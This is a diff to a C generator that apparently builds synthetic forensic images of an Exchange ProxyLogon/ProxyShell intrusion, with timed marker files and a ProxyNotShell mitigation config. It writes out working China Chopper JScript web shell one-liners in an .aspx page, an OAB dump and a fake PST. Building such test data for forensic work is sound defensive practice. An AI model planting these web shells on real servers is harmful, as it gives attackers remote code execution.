@@ -1,9 +1,12 @@
 /*
- * exgen: the web root and the inert marker files the intrusion left (web
- * shells, the LSASS dump, the 7-Zip archive), with the times they were written.
+ * exgen: the web root and the inert marker files an intrusion left (web shells,
+ * the LSASS dump, the 7-Zip archive, a mailbox export written as a page), with
+ * the times they were written, and a site web.config with the ProxyNotShell URL
+ * Rewrite mitigation where a fleet host applied it.
  */
 #include "exgen.h"
 
+#include <stdio.h>
 #include <string.h>
 
 static const char IISSTART[] =
@@ -40,9 +43,19 @@ static const char LOGON_CSS[] =
     ".signInInputLabel { color: #666666; font-size: 14px; }\n"
     ".signinbutton { background-color: #0072C6; color: #FFFFFF; cursor: pointer; }\n";
 
-static const char CHOPPER[] = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"" SHELL2_PW "\"],\"unsafe\");%>";
+static const char CHOPPER_T[] = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"{P2}\"],\"unsafe\");%>";
+static const char CHOPPER_SH_T[] = "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"{SHPW}\"],\"unsafe\");%>";
 
-static const char OAB_DUMP[] =
+static const char PNS_MITIGATION[] =
+    "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration>\n  <system.webServer>\n    <rewrite>\n"
+    "      <rules>\n        <rule name=\"PowerShell - inbound\" stopProcessing=\"true\">\n"
+    "          <match url=\".*\" />\n"
+    "          <conditions logicalGrouping=\"MatchAny\" trackAllCaptures=\"false\">\n"
+    "            <add input=\"{UrlDecode:{REQUEST_URI}}\" pattern=\"(?=.*autodiscover)(?=.*powershell)\" />\n"
+    "          </conditions>\n          <action type=\"AbortRequest\" />\n        </rule>\n      </rules>\n"
+    "    </rewrite>\n  </system.webServer>\n</configuration>";
+
+static const char OAB_DUMP_T[] =
     "Name                            : OAB (Default Web Site)\n"
     "PollInterval                    : 480\n"
     "OfflineAddressBooks             : \n"
@@ -50,33 +63,33 @@ static const char OAB_DUMP[] =
     "BasicAuthentication             : False\n"
     "WindowsAuthentication           : True\n"
     "OAuthAuthentication             : False\n"
-    "MetabasePath                    : IIS://EXCH01.contoso.local/W3SVC/1/ROOT/OAB\n"
+    "MetabasePath                    : IIS://{NAME}.contoso.local/W3SVC/1/ROOT/OAB\n"
     "Path                            : " XROOT_WIN "FrontEnd\\HttpProxy\\OAB\n"
     "ExtendedProtectionTokenChecking : None\n"
     "ExtendedProtectionFlags         : \n"
     "ExtendedProtectionSPNList       : \n"
-    "AdminDisplayVersion             : Version 15.1 (Build 2176.2)\n"
-    "Server                          : EXCH01\n"
-    "InternalUrl                     : https://exch01.contoso.local/OAB\n"
+    "AdminDisplayVersion             : Version {ADV}\n"
+    "Server                          : {NAME}\n"
+    "InternalUrl                     : https://{FQDN}/OAB\n"
     "InternalAuthenticationMethods   : WindowsIntegrated\n"
     "ExternalUrl                     : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load()"
-    "{eval(Request[\"" SHELL1_PW "\"],\"unsafe\");}</script>\n"
+    "{eval(Request[\"{P1}\"],\"unsafe\");}</script>\n"
     "ExternalAuthenticationMethods   : WindowsIntegrated\n"
     "AdminDisplayName                : \n"
     "ExchangeVersion                 : 0.10 (14.0.100.0)\n"
-    "DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=EXCH01,CN=Servers,"
+    "DistinguishedName               : CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN={NAME},CN=Servers,"
     "CN=Exchange Administrative Group (FYDIBOHF23SPDLT),CN=Administrative Groups,CN=Contoso,"
     "CN=Microsoft Exchange,CN=Services,CN=Configuration,DC=contoso,DC=local\n"
-    "Identity                        : EXCH01\\OAB (Default Web Site)\n"
+    "Identity                        : {NAME}\\OAB (Default Web Site)\n"
     "Guid                            : " OABVD_GUID "\n"
     "ObjectCategory                  : contoso.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory\n"
     "ObjectClass                     : {top, msExchVirtualDirectory, msExchOABVirtualDirectory}\n"
-    "WhenChanged                     : 3/3/2021 6:49:53 AM\n"
+    "WhenChanged                     : {WHEN}\n"
     "WhenCreated                     : 10/14/2019 3:22:10 PM\n"
-    "WhenChangedUTC                  : 3/3/2021 6:49:53 AM\n"
+    "WhenChangedUTC                  : {WHEN}\n"
     "WhenCreatedUTC                  : 10/14/2019 3:22:10 PM\n"
     "OrganizationId                  : \n"
-    "Id                              : EXCH01\\OAB (Default Web Site)\n"
+    "Id                              : {NAME}\\OAB (Default Web Site)\n"
     "OriginatingServer               : DC01.contoso.local\n"
     "IsValid                         : True\n"
     "ObjectState                     : Changed\n";
@@ -87,6 +100,8 @@ static const char OAB_DUMP[] =
 static void planted(Gen *g, int rec, int64_t t, const char *stage, const char *desc, const char *rule)
 {
 	stamp(g, rec, t);
+	if (g->nfiles >= sizeof g->files / sizeof g->files[0])
+		return;
 	g->files[g->nfiles].rec = rec;
 	g->files[g->nfiles].t = t;
 	g->files[g->nfiles].stage = stage;
@@ -95,25 +110,37 @@ static void planted(Gen *g, int rec, int64_t t, const char *stage, const char *d
 	g->nfiles++;
 }
 
-void write_webroot(Gen *g)
+/* "3/3/2021 6:49:53 AM", as Get-OabVirtualDirectory prints a time. */
+static void us_time(char *dst, size_t cap, int64_t t)
 {
+	int y;
+	unsigned m, d;
+	civil_from_days(t / MS_DAY, &y, &m, &d);
+	unsigned s = (unsigned)(t % MS_DAY / 1000), h = s / 3600;
+	snprintf(dst, cap, "%u/%u/%d %u:%02u:%02u %s", m, d, y, h % 12 ? h % 12 : 12, s / 60 % 60, s % 60,
+	         h < 12 ? "AM" : "PM");
+}
+
+/* The ProxyLogon files, at the sample's times shifted to the host's. */
+static void write_pl_files(Gen *g, int which)
+{
+	int64_t sh = g->plan.pl_shift;
+	char path[512], text[4096];
 	int rec;
-	stamp(g, write_text(g, "C/inetpub/wwwroot/iisstart.htm", IISSTART), ms_at(2019, 10, 14, 14, 51, 2, 0));
-	char rel[2048], full[4096];
-	disk_rel(g, rel, sizeof rel, "C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319");
-	full_path(g, full, sizeof full, rel);
-	mkdirs_for(g, full, true);
-	rec = write_whole(g, "C/inetpub/wwwroot/aspnet_client/system_web/" SHELL2 ".aspx", true, CHOPPER, sizeof CHOPPER - 1);
-	planted(g, rec, ms_at(2021, 3, 3, 7, 5, 33, 0), "webshell-drop", "China Chopper page written through the OAB shell",
-	        "exh_chopper_eval_request");
-	rec = write_text(g, XROOT "FrontEnd/HttpProxy/owa/auth/" SHELL1 ".aspx", OAB_DUMP);
-	planted(g, rec, ms_at(2021, 3, 3, 6, 59, 20, 0), "webshell-drop",
-	        "CVE-2021-27065: OAB virtual directory dump with a China Chopper script in ExternalUrl",
-	        "exh_oab_vdir_dump_script");
-	/* the security update rewrote the vdir configuration; the stylesheet came with the CU */
-	stamp(g, write_text(g, XROOT "FrontEnd/HttpProxy/owa/web.config", OWA_WEBCONFIG), ms_at(2021, 3, 5, 21, 41, 12, 0));
-	stamp(g, write_text(g, XROOT "FrontEnd/HttpProxy/owa/auth/15.1.2176/themes/resources/logon.css", LOGON_CSS),
-	      ms_at(2020, 12, 15, 19, 2, 48, 0));
+	if (which == 0) {
+		Str c = tmpl(g, text, sizeof text, CHOPPER_T);
+		rec = write_whole(g, tmpl(g, path, sizeof path, "C/inetpub/wwwroot/aspnet_client/system_web/{S2}.aspx").s, true,
+		                  c.s, c.n);
+		planted(g, rec, ms_at(2021, 3, 3, 7, 5, 33, 0) + sh, "webshell-drop",
+		        "China Chopper page written through the OAB shell", "exh_chopper_eval_request");
+		us_time(g->plan.when, sizeof g->plan.when, ms_at(2021, 3, 3, 6, 49, 53, 0) + sh);
+		tmpl(g, text, sizeof text, OAB_DUMP_T);
+		rec = write_text(g, tmpl(g, path, sizeof path, XROOT "FrontEnd/HttpProxy/owa/auth/{S1}.aspx").s, text);
+		planted(g, rec, ms_at(2021, 3, 3, 6, 59, 20, 0) + sh, "webshell-drop",
+		        "CVE-2021-27065: OAB virtual directory dump with a China Chopper script in ExternalUrl",
+		        "exh_oab_vdir_dump_script");
+		return;
+	}
 	/* Inert markers: archive and dump headers followed by random bytes. */
 	Rng r;
 	rng_seed(&r, 0x7A7A7A);
@@ -123,7 +150,7 @@ void write_webroot(Gen *g)
 	for (size_t i = sizeof magic7z; i < 96; i++)
 		b[i] = (unsigned char)rnext(&r);
 	rec = write_whole(g, "C/ProgramData/VSPerfMon/a.7z", true, b, 96);
-	planted(g, rec, ms_at(2021, 3, 3, 7, 21, 50, 0), "collection", "7-Zip archive of the LSASS dump in VSPerfMon",
+	planted(g, rec, ms_at(2021, 3, 3, 7, 21, 50, 0) + sh, "collection", "7-Zip archive of the LSASS dump in VSPerfMon",
 	        "file-vsperfmon");
 	static const unsigned char mdmp[] = {'M', 'D', 'M', 'P', 0x93, 0xA7, 0x00, 0x00};
 	memcpy(b, mdmp, sizeof mdmp);
@@ -136,6 +163,61 @@ void write_webroot(Gen *g)
 		b[96 + 2 * i + 1] = 0;
 	}
 	rec = write_whole(g, "C/Windows/Temp/lsass.dmp", true, b, 384);
-	planted(g, rec, ms_at(2021, 3, 3, 7, 15, 7, 0), "credential-access", "LSASS minidump made with comsvcs.dll MiniDump",
+	planted(g, rec, ms_at(2021, 3, 3, 7, 15, 7, 0) + sh, "credential-access", "LSASS minidump made with comsvcs.dll MiniDump",
 	        "exh_lsass_minidump");
+}
+
+/* The page a 2021-08 .. 2022-12 campaign wrote: a China Chopper line, or for
+ * ProxyShell a mailbox export (PST header, the script inside the exported mail). */
+static void write_campaign_shell(Gen *g)
+{
+	char path[512], url[256], text[512];
+	shell_path(g, path, sizeof path, url, sizeof url);
+	Str c = tmpl(g, text, sizeof text, CHOPPER_SH_T);
+	int rec;
+	if (g->plan.shell_pst) {
+		/* "!BDN", a PST header's random-looking bytes, the script as the mail body left it */
+		unsigned char b[1536];
+		Rng r;
+		rng_seed(&r, mix3(g->seed, 0xB0D1, 3));
+		for (size_t i = 0; i < sizeof b; i++)
+			b[i] = (unsigned char)rnext(&r);
+		memcpy(b, "!BDN", 4);
+		static const char js[] = "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"";
+		size_t at = 700, k = sizeof js - 1;
+		memcpy(b + at, js, k);
+		size_t pl = strlen(g->plan.shell_pw);
+		memcpy(b + at + k, g->plan.shell_pw, pl);
+		static const char tail[] = "\"],\"unsafe\");}</script>";
+		memcpy(b + at + k + pl, tail, sizeof tail - 1);
+		rec = write_whole(g, path, true, b, sizeof b);
+	} else {
+		rec = write_whole(g, path, true, c.s, c.n);
+	}
+	planted(g, rec, g->plan.shell_t, "webshell-drop", g->plan.shell_desc, g->plan.shell_rule);
+}
+
+void write_webroot(Gen *g)
+{
+	stamp(g, write_text(g, "C/inetpub/wwwroot/iisstart.htm", IISSTART), ms_at(2019, 10, 14, 14, 51, 2, 0));
+	char rel[2048], full[4096];
+	disk_rel(g, rel, sizeof rel, "C/inetpub/wwwroot/aspnet_client/system_web/4_0_30319");
+	full_path(g, full, sizeof full, rel);
+	mkdirs_for(g, full, true);
+	if (g->plan.pl_files)
+		write_pl_files(g, 0);
+	/* the security update rewrote the vdir configuration; the stylesheet came with the CU */
+	const Host *h = &g->h;
+	stamp(g, write_text(g, XROOT "FrontEnd/HttpProxy/owa/web.config", OWA_WEBCONFIG),
+	      h->patch_at >= 0 ? h->patch_at + 72000 : h->cu_time + 3 * MS_HOUR);
+	char css[256];
+	snprintf(css, sizeof css, XROOT "FrontEnd/HttpProxy/owa/auth/%u.%u.%u/themes/resources/logon.css", h->b[0].major,
+	         h->b[0].minor, h->b[0].cu);
+	stamp(g, write_text(g, css, LOGON_CSS), h->cu_time);
+	if (g->plan.pl_files)
+		write_pl_files(g, 1);
+	if (g->plan.shell_t >= 0 && g->plan.shell[0])
+		write_campaign_shell(g);
+	if (g->plan.pns_mitigation)
+		stamp(g, write_text(g, "C/inetpub/wwwroot/web.config", PNS_MITIGATION), g->plan.mitigated_at);
 }
